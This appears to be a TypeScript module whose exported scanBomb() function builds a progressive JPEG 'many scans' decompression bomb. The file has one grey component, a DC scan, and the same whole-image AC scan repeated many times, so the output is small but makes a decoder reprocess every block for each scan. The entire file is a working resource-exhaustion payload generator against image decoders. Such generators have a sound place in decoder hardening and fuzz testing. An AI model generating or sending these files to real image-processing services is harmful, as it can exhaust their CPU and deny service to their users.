// A progressive JPEG that is cheap to send and dear to decode: one grey component, a DC scan,
// then `scans` AC scans that each cover the whole image with end-of-band runs. Every scan is
// a few bytes, yet the decoder walks every block again for each one (the "many scans" bomb).

class BitWriter {
  readonly bytes: number[] = [];
  #acc = 0;
  #count = 0;

  write(value: number, length: number): void {
    for (let bit = length - 1; bit >= 0; bit -= 1) {
      this.#acc = (this.#acc << 1) | ((value >> bit) & 1);
      this.#count += 1;
      if (this.#count === 8) this.#flushByte();
    }
  }

  /** Pads the last byte with ones, as JPEG asks. */
  end(): number[] {
    if (this.#count > 0) this.write(0xff, 8 - this.#count);
    return this.bytes;
  }

  #flushByte(): void {
    this.bytes.push(this.#acc);
    if (this.#acc === 0xff) this.bytes.push(0); // byte stuffing
    this.#acc = 0;
    this.#count = 0;
  }
}

const segment = (marker: number, body: number[]) => [
  0xff,
  marker,
  (body.length + 2) >> 8,
  (body.length + 2) & 0xff,
  ...body,
];

/** A Huffman table with one symbol, coded as the single bit 0. */
const oneSymbolTable = (tableClass: number, id: number, symbol: number) =>
  segment(0xc4, [(tableClass << 4) | id, 1, ...new Array(15).fill(0), symbol]);

const scanHeader = (ss: number, se: number, ah: number, al: number) =>
  segment(0xda, [1, 1, 0x00, ss, se, (ah << 4) | al]);

/** size: a multiple of 1024 (whole runs of 16,384 blocks). */
export function scanBomb(size: number, scans: number): Buffer {
  if (size % 1024 !== 0) throw new Error('size must be a multiple of 1024');
  const blocks = Math.ceil(size / 8) ** 2;
  const quant = segment(0xdb, [0, ...new Array(64).fill(1)]);
  const frame = segment(0xc2, [8, size >> 8, size & 0xff, size >> 8, size & 0xff, 1, 1, 0x11, 0]);
  const dc = new BitWriter();
  for (let block = 0; block < blocks; block += 1) dc.write(0, 1); // difference 0 everywhere
  const ac = new BitWriter();
  // One EOBRUN symbol (0xE0 with 14 zero bits: 16,384 empty blocks) per 16,384 blocks.
  for (let left = blocks; left > 0; left -= 16_384) ac.write(0, 15);
  const acBits = ac.end();
  const parts: number[] = [
    0xff,
    0xd8,
    ...quant,
    ...frame,
    ...oneSymbolTable(0, 0, 0),
    ...oneSymbolTable(1, 0, 0xe0),
  ];
  parts.push(...scanHeader(0, 0, 0, 0));
  const chunks = [Buffer.from(parts), Buffer.from(dc.end())];
  const acChunk = Buffer.concat([Buffer.from(scanHeader(1, 63, 0, 0)), Buffer.from(acBits)]);
  for (let scan = 0; scan < scans; scan += 1) chunks.push(acChunk);
  chunks.push(Buffer.from([0xff, 0xd9]));
  return Buffer.concat(chunks);
}
